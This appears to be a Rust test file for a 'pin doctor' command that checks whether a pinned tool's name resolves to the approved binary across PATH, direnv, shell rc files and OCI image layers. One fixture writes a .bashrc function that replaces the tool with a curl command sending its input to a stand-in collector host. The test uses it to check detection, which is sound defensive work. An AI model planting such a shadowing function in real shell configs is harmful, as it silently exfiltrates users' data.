//! `pin doctor`: what a tool's name leads to.
#![cfg(unix)]

use std::fs;
use std::os::unix::fs::PermissionsExt as _;

use proofmark_core::Digest;

use crate::support::{Run, Sandbox};

fn host() -> String {
    let architecture = match std::env::consts::ARCH {
        "x86_64" => "amd64",
        "aarch64" => "arm64",
        other => other,
    };
    format!("{}/{architecture}", if cfg!(target_os = "macos") { "darwin" } else { "linux" })
}

/// A tool of a name that no machine has, pinned and installed in `bin/`.
fn pinned() -> Sandbox {
    let sandbox = Sandbox::with_policy("version = 1\n");
    let (hex, host) = (Digest::sha256(b"the tool"), host());
    let hex = hex.hex();
    sandbox.write(
        "allowlists/binaries.toml",
        format!("[[binary]]\ntool = \"acme-tool\"\nversions = [\"1.0.0\"]\nplatforms = [\"{host}\"]\nunsigned = \"x\"\nwhy = \"w\"\nby = \"b\"\n"),
    );
    sandbox.write(
        "proofmark.lock",
        format!("version = 1\n\n[[pin]]\ntool = \"acme-tool\"\nversion = \"1.0.0\"\nplatform = \"{host}\"\nurl = \"https://tools.test/x\"\n\
             sha256 = \"{hex}\"\narchive = \"none\"\nexecutable-sha256 = \"{hex}\"\nexecutable-size = 8\nmode = \"0755\"\n\
             unsigned = \"x\"\nadded = 2026-11-20\nby = \"alice\"\n"),
    );
    install(&sandbox, "bin/acme-tool", b"the tool");
    sandbox
}

fn install(sandbox: &Sandbox, path: &str, bytes: &[u8]) {
    sandbox.write(path, bytes);
    fs::set_permissions(sandbox.path(path), fs::Permissions::from_mode(0o755)).unwrap();
}

/// With these folders of the repository in `PATH`.
fn doctor(sandbox: &Sandbox, folders: &[&str], arguments: &[&str]) -> Run {
    let path: Vec<String> = folders.iter().map(|one| sandbox.path(one).display().to_string()).collect();
    let words = ["pin", "doctor"].into_iter().chain(arguments.iter().copied());
    sandbox.program(words).variable("PATH", &path.join(":")).run()
}

#[test]
fn what_runs_is_the_pinned_one() {
    let sandbox = pinned();
    let said = doctor(&sandbox, &["bin"], &[]).exits(0);
    said.says("acme-tool\n")
        .says("this shell")
        .says("bin/acme-tool: sha256 ")
        .says("allowed: it is acme-tool 1.0.0");
}

#[test]
fn what_stands_before_it_is_told() {
    let sandbox = pinned();
    install(&sandbox, "first/acme-tool", b"poisoned");
    let said = doctor(&sandbox, &["first", "bin"], &[]).exits(1);
    said.says("first/acme-tool: sha256 ")
        .says("not allowed: ")
        .says("behind it ")
        .says("bin/acme-tool: sha256 ");
    // Behind the pinned one it does no harm.
    doctor(&sandbox, &["bin", "first"], &[]).exits(0).says("behind it ");
}

#[test]
fn direnv_and_shells_are_read() {
    let sandbox = pinned();
    install(&sandbox, "tools/acme-tool", b"poisoned");
    sandbox.write(".envrc", "PATH_add tools\n");
    doctor(&sandbox, &["bin"], &[])
        .exits(1)
        .says("direnv, in this folder\n")
        .says("tools/acme-tool: sha256 ");
    sandbox.write(".envrc", "");
    doctor(&sandbox, &["bin"], &[]).exits(0);
    sandbox.write("../home/.bashrc", "alias acme-tool='acme-tool --color'\n");
    doctor(&sandbox, &["bin"], &[]).exits(0);
    sandbox.write("../home/.bashrc", "acme-tool() { curl -d @- https://collector.example; }\n");
    doctor(&sandbox, &["bin"], &[]).exits(1).says("before PATH: a function of ").says("/.bashrc:1");
    let json = doctor(&sandbox, &["bin"], &["--json", "acme-tool"]).exits(1);
    let value: serde_json::Value = serde_json::from_str(&json.stdout).unwrap();
    assert_eq!(value["tools"][0]["before-path"][0]["kind"], "function");
    assert_eq!(value["tools"][0]["places"][0]["files"][0]["outcome"], "pass");
}

/// What cannot be told stands before what was judged.
#[test]
fn what_is_not_known_is_no_success() {
    let sandbox = pinned();
    sandbox.write(".envrc", "PATH=\"$(brew --prefix)/bin:$PATH\"\n");
    doctor(&sandbox, &["bin"], &[]).exits(3).says("which cannot be told here");
    sandbox.write(".envrc", "");
    sandbox.write("../home/.bashrc", "if [[ -n x ]] {\n");
    doctor(&sandbox, &["bin"], &[]).exits(3).says("cannot be told whole");
    sandbox.write("../home/.bashrc", "");
    sandbox.write("../home/.zshrc", "path=(/opt/x $path)\n");
    doctor(&sandbox, &["bin"], &[]).exits(3).says("zsh's array");
}

#[test]
fn what_is_nowhere() {
    let sandbox = pinned();
    doctor(&sandbox, &["other"], &[]).exits(4).says("nothing");
    fs::remove_file(sandbox.path("proofmark.lock")).unwrap();
    doctor(&sandbox, &["bin"], &[]).exits(1).says("not allowed");
}

/// A tar of these files; a text that begins with `-> ` is a link, with `=> ` a hard link.
fn layer(files: &[(&str, &str)]) -> Vec<u8> {
    let mut tar = tar::Builder::new(Vec::new());
    for (path, text) in files {
        let mut header = tar::Header::new_gnu();
        header.set_mode(0o755);
        if let Some(to) = text.strip_prefix("-> ") {
            header.set_entry_type(tar::EntryType::Symlink);
            header.set_size(0);
            tar.append_link(&mut header, path, to).unwrap();
        } else if let Some(to) = text.strip_prefix("=> ") {
            header.set_entry_type(tar::EntryType::Link);
            header.set_size(0);
            tar.append_link(&mut header, path, to).unwrap();
        } else {
            header.set_size(text.len() as u64);
            tar.append_data(&mut header, path, text.as_bytes()).unwrap();
        }
    }
    tar.into_inner().unwrap()
}

/// An image of these layers in `images/`.
fn image(sandbox: &Sandbox, layers: &[Vec<u8>]) {
    let blob = |bytes: &[u8], media_type: &str| {
        let digest = Digest::sha256(bytes);
        sandbox.write(&format!("images/blobs/sha256/{}", digest.hex()), bytes);
        serde_json::json!({ "mediaType": media_type, "digest": digest.to_string(), "size": bytes.len() })
    };
    let config = serde_json::json!({ "os": "linux", "architecture": "amd64", "config": { "Env": ["PATH=/usr/local/bin:/usr/bin"] } });
    let config = blob(config.to_string().as_bytes(), "application/vnd.oci.image.config.v1+json");
    let layers: Vec<_> =
        layers.iter().map(|layer| blob(layer, "application/vnd.oci.image.layer.v1.tar")).collect();
    let manifest = serde_json::json!({ "schemaVersion": 2, "config": config, "layers": layers });
    let mut manifest = blob(manifest.to_string().as_bytes(), "application/vnd.oci.image.manifest.v1+json");
    manifest["annotations"] = serde_json::json!({ "org.opencontainers.image.ref.name": "1" });
    sandbox.write("images/index.json", serde_json::json!({ "manifests": [manifest] }).to_string());
}

fn doctor_image(sandbox: &Sandbox, text: &str) -> Run {
    sandbox.program(["pin", "doctor", "--image", text]).run()
}

#[test]
fn the_layers_of_an_image() {
    let sandbox = pinned();
    let honest = layer(&[("usr/bin/acme-tool", "the tool"), ("etc/passwd", "x")]);
    image(&sandbox, std::slice::from_ref(&honest));
    doctor_image(&sandbox, "oci:images:1")
        .exits(0)
        .says("runs: /usr/bin/acme-tool (layer 1 of 1")
        .says("allowed: ");
    // A later layer puts another before it.
    let poisoned = layer(&[("./usr/local/bin/acme-tool", "poisoned")]);
    image(&sandbox, &[honest.clone(), poisoned.clone()]);
    let said = doctor_image(&sandbox, "oci:images").exits(1);
    said.says("runs: /usr/local/bin/acme-tool (layer 2 of 2")
        .says("behind it: /usr/bin/acme-tool (layer 1 of 2");
    // And a later one removes it, or puts a file where its folder was.
    for gone in [("usr/local/bin/.wh.acme-tool", ""), ("usr/local/.wh..wh..opq", ""), ("usr/local/bin", "x")]
    {
        image(&sandbox, &[honest.clone(), poisoned.clone(), layer(&[gone])]);
        let said = doctor_image(&sandbox, "oci:images").exits(0);
        said.says("gone in layer 3: /usr/local/bin/acme-tool").says("runs: /usr/bin/acme-tool");
    }
    // Replaced under its own name.
    image(&sandbox, &[honest.clone(), layer(&[("usr/bin/acme-tool", "poisoned")])]);
    doctor_image(&sandbox, "oci:images").exits(1).says("gone in layer 2: ");
    // Links.
    let links = layer(&[("usr/local/bin/acme-tool", "-> ../../bin/acme-tool")]);
    image(&sandbox, &[honest.clone(), links]);
    doctor_image(&sandbox, "oci:images").exits(0).says("a link to ../../bin/acme-tool): sha256 ");
    image(&sandbox, &[layer(&[("usr/bin/acme-tool", "-> /opt/other")])]);
    doctor_image(&sandbox, "oci:images").exits(3).says("has another name");
    // A folder of PATH that is a link, also one that a later layer makes, or through which a later layer writes.
    let folder = layer(&[("usr/local/bin", "-> /opt/x"), ("opt/x/acme-tool", "poisoned")]);
    image(&sandbox, &[honest.clone(), folder]);
    doctor_image(&sandbox, "oci:images").exits(1).says("runs: /opt/x/acme-tool");
    image(&sandbox, &[honest.clone(), layer(&[("m", "-> usr/bin"), ("m/acme-tool", "poisoned")])]);
    doctor_image(&sandbox, "oci:images").exits(1).says("runs: /usr/bin/acme-tool (layer 2 of 2");
    // A relative link counts from its own folder alone, and `..` from where the links before it lead.
    image(&sandbox, &[honest.clone(), layer(&[("usr/local/bin/acme-tool", "-> usr/bin/acme-tool")])]);
    doctor_image(&sandbox, "oci:images").exits(3);
    let around = layer(&[
        ("e", "-> opt/y/z"),
        ("opt/y/usr/bin/acme-tool", "poisoned"),
        ("usr/local/bin/acme-tool", "-> /e/../usr/bin/acme-tool"),
    ]);
    image(&sandbox, &[honest.clone(), around]);
    doctor_image(&sandbox, "oci:images").exits(1).says("not allowed");
    let round = layer(&[("usr/local/bin/acme-tool", "-> acme-tool")]);
    image(&sandbox, &[honest.clone(), round]);
    doctor_image(&sandbox, "oci:images").exits(3);
    // A hard link keeps the bytes that it was made of.
    let hard = layer(&[("opt/acme-tool", "poisoned"), ("usr/local/bin/acme-tool", "=> opt/acme-tool")]);
    image(&sandbox, &[hard, layer(&[("opt/acme-tool", "the tool")])]);
    doctor_image(&sandbox, "oci:images").exits(1).says("runs: /usr/local/bin/acme-tool (layer 1 of 2");
    image(&sandbox, &[layer(&[("opt/acme-tool", "poisoned")])]);
    doctor_image(&sandbox, "oci:images").exits(4).says("not on PATH: /opt/acme-tool");
}

#[test]
fn a_layout_that_is_none() {
    let sandbox = pinned();
    doctor_image(&sandbox, "images").fails_with(3, "image-unreadable").says("oci:DIR");
    doctor_image(&sandbox, "oci:images").fails_with(3, "image-unreadable");
    image(&sandbox, &[layer(&[("usr/bin/acme-tool", "the tool")])]);
    doctor_image(&sandbox, "oci:images:2").fails_with(3, "image-unreadable").says("no image of the tag 2");
    // A layer that is of no known kind, and what is no image.
    let index = sandbox.read("images/index.json");
    image(&sandbox, &[layer(&[("usr/bin/acme-tool", "the tool")])]);
    assert_eq!(index, sandbox.read("images/index.json"));
    // A blob that is another's.
    for file in sandbox.files("work/images/blobs/sha256") {
        let before = fs::read(&file).unwrap();
        fs::write(&file, [&before[..], b" "].concat()).unwrap();
        doctor_image(&sandbox, "oci:images")
            .fails_with(3, "image-unreadable")
            .says("not those of its digest");
        fs::write(&file, &before).unwrap();
    }
    doctor_image(&sandbox, "oci:images").exits(0);
}
